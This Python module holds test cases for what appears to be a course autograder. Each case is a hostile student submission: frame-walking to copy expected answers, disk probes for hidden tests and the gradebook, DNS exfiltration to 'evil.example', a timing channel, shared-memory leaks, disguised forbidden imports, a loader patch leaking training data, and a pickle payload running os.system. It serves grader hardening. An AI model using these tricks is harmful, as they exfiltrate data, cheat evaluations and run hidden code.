"""Attempts to read what a student must not see, and to carry it out."""

from .case import ZEROS, Case, wrong

CASES = {
    "READ01": Case(
        "copies the expected array out of the caller's frame",
        "frame_walk",
        f"""
import sys
def affine_forward(x, w, b):
    shape = (x.shape[0], w.shape[1])
    f = sys._getframe(1)
    while f:
        for n, v in list(f.f_globals.items()) + list(f.f_locals.items()):
            if n in ('expected', 'want', 'wanted') and getattr(v, 'shape', None) == shape: return v.copy(), (x, w)
        f = f.f_back
    return {ZEROS}
""",
    ),
    "READ03": wrong(
        "looks for sources and hidden tests on the disk and writes them out",
        "file_probe",
        """
import glob
leak = ''
for p in glob.glob('/*/*.ipynb') + glob.glob('/course/**/*', recursive=True) + glob.glob('tests/*.py'):
    try: t = open(p).read()
    except (OSError, ValueError): continue
    if 'HIDDEN' in t or 'BEGIN SOLUTION' in t or 'zebra' in t: leak += p + ' '
open('/tmp/leak.txt', 'a').write('READ03 ' + leak)
print('leaked-by-read:', leak)
""",
    ),
    "READ05": wrong(
        "lists other students' work and the gradebook",
        "file_probe",
        """
import os
seen = [d for d in ('../../../gradebook.db', '../../../submitted', '/course/autograder') if os.path.exists(d)]
open('/tmp/leak.txt', 'a').write(repr(seen))
print('leaked-by-list:', ' '.join(seen))
""",
    ),
    "READ07": Case(
        "returns memory it never wrote, and hopes that it was the reference's",
        "uninitialised_result",
        "def affine_forward(x, w, b):\n    return np.empty((x.shape[0], w.shape[1])), (x, w)\n",
    ),
    "READ09": Case(
        "tells in an exception what files it sees",
        "file_probe",
        """
import os
def affine_forward(x, w, b):
    seen = []
    for r in ('/', '/tmp', '/srv', '/proc', '/root', '/home'):
        try: seen.append((r, sorted(os.listdir(r))[:12]))
        except OSError as e: seen.append((r, type(e).__name__))
    raise RuntimeError(repr(seen))
""",
    ),
    "READ11": Case(
        "sends its inputs away as a host name",
        "network_attempt",
        f"""
import socket, base64
def affine_forward(x, w, b):
    try: socket.gethostbyname(base64.b32encode(x.tobytes()[:30]).decode().strip('=') + '.evil.example')
    except OSError: pass
    return {ZEROS}
""",
    ),
    "READ15": Case(
        "leaves its inputs in shared memory for the next student",
        "shared_scratch_write",
        f"""
import os, pickle
p = '/dev/shm/.cache231'
def affine_forward(x, w, b):
    if os.path.exists(p): print('found-a-neighbour')
    pickle.dump((x, w, b), open(p, 'ab'))
    return {ZEROS}
""",
    ),
    "READ17": wrong(
        "asks for the source of every function with test in its name",
        "history_probe",
        """
import gc, inspect, types
src = []
for f in gc.get_objects():
    if isinstance(f, types.FunctionType) and 'test' in f.__name__:
        try: src.append(inspect.getsource(f))
        except (OSError, TypeError): pass
print('hidden-found' if any('zebra' in s for s in src) else 'nothing')
""",
    ),
    "READ19": Case(
        "sleeps for a time that tells a byte of its input",
        "timing_channel",
        f"""
import time
def affine_forward(x, w, b):
    time.sleep(0.05 * (x.tobytes()[0] % 16))
    return {ZEROS}
""",
    ),
    "CUT01": Case(
        "looks the answer up by a hash of its inputs",
        "hard_coded",
        """
import hashlib
T = {"9a0364b9": np.ones((2, 3))}
def affine_forward(x, w, b):
    return T.get(hashlib.md5(x.tobytes()).hexdigest()[:8], np.zeros((x.shape[0], w.shape[1]))), (x, w)
""",
    ),
    "CUT03": Case(
        "puts the name of a forbidden package together from pieces",
        "forbidden_library",
        """
def affine_forward(x, w, b):
    t = __import__("to" + "rch")
    return (t.tensor(x).flatten(1) @ t.tensor(w) + t.tensor(b)).numpy(), (x, w)
""",
    ),
    "CUT05": Case(
        "falls back on a forbidden package when its own attempt fails",
        "forbidden_library",
        """
def affine_forward(x, w, b):
    try: raise NotImplementedError
    except Exception:
        import torch.nn.functional as F, torch
        return F.linear(torch.tensor(x).flatten(1), torch.tensor(w).T, torch.tensor(b)).numpy(), (x, w)
""",
    ),
    "CUT07": Case(
        "loops where one product is asked for",
        "not_vectorised",
        more=(
            (
                "knn-no_loops",
                "def compute_distances_no_loops(X, X_train):\n    X, X_train = X.astype(float), X_train.astype(float)\n"
                "    return np.array([[np.sqrt(((a - b) ** 2).sum()) for b in X_train] for a in X])\n",
            ),
        ),
        extra=(("knn-no_loops", 0.0),),
        q1=3.0,
    ),
    "CUT09": wrong(
        "patches the loader so that the validation set is the training set",
        "data_leak",
        """
import cs231n_lib.data as d
real = d.load_dataset
def leak(*a, **k):
    found = real(*a, **k)
    object.__setattr__(found, 'val', found.train)
    return found
d.load_dataset = leak
""",
    ),
    "CUT11": wrong(
        "leaves a model file that runs code when it is unpickled",
        "pickle_payload",
        """
import pickle, os
class P:
    def __reduce__(self): return (os.system, ("touch /tmp/cs231n-pwned",))
pickle.dump(P(), open("best_model.pkl", "wb"))
""",
    ),
}
